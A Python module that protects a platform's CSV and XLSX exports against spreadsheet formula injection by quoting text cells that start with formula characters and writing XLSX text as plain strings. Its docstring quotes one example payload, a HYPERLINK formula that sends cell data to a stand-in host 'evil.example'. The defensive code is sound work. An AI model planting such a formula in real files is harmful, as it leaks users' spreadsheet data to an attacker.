"""The cells of every spreadsheet and CSV file the platform writes.

Names and labels come from people (an organisation may call itself
``=HYPERLINK("http://evil.example/?"&A1,"x")``). A spreadsheet reads a cell that starts
with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a carriage return before one)
as a formula, which may send the sheet's data elsewhere. So, as OWASP advises against
CSV injection, text that starts with one of those characters gets a single quote in
front; XLSX text cells are written as text (type ``s``), never as formulas. Numbers,
dates and empty cells stay what they are: a negative number is still a number.

Every CSV and XLSX writer goes through ``csv_writer`` / ``xlsx_append`` (or
``safe_cell`` for one value).
"""

import csv
import datetime
from collections.abc import Iterable
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_KEPT = (bool, int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)


def safe_text(text: str) -> str:
    """``text`` as no spreadsheet reads a formula: a single quote in front of a
    leading ``=``, ``+``, ``-``, ``@``, tab or carriage return."""
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def safe_cell(value):
    """A cell's value: numbers, dates and None as they are (booleans too), anything
    else as safe text."""
    if value is None or isinstance(value, _KEPT):
        return value
    return safe_text(str(value))


class _SafeWriter:
    """``csv.writer`` whose rows pass through ``safe_cell``; numbers with a fraction
    are written with ``decimal_sign``."""

    def __init__(self, out, *, decimal_sign: str = ".", **kwargs):
        self._writer = csv.writer(out, **kwargs)
        self._decimal_sign = decimal_sign

    def _field(self, value):
        value = safe_cell(value)
        if isinstance(value, float | Decimal) and self._decimal_sign != ".":
            return str(value).replace(".", self._decimal_sign)
        return value

    def writerow(self, row: Iterable):
        return self._writer.writerow([self._field(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, *, decimal_sign: str = ".", **kwargs) -> _SafeWriter:
    """A CSV writer on ``out`` (the arguments of ``csv.writer``) that writes safe cells,
    numbers with ``decimal_sign`` (a comma for continental spreadsheets)."""
    return _SafeWriter(out, decimal_sign=decimal_sign, **kwargs)


def xlsx_append(sheet, row: Iterable) -> list:
    """Append ``row`` to an openpyxl worksheet: numbers and dates as they are, text as
    safe text of type ``s`` (never a formula). Returns the row's cells."""
    from openpyxl.cell.cell import Cell

    cells = []
    for value in row:
        value = safe_cell(value)
        cell = Cell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)
    return cells
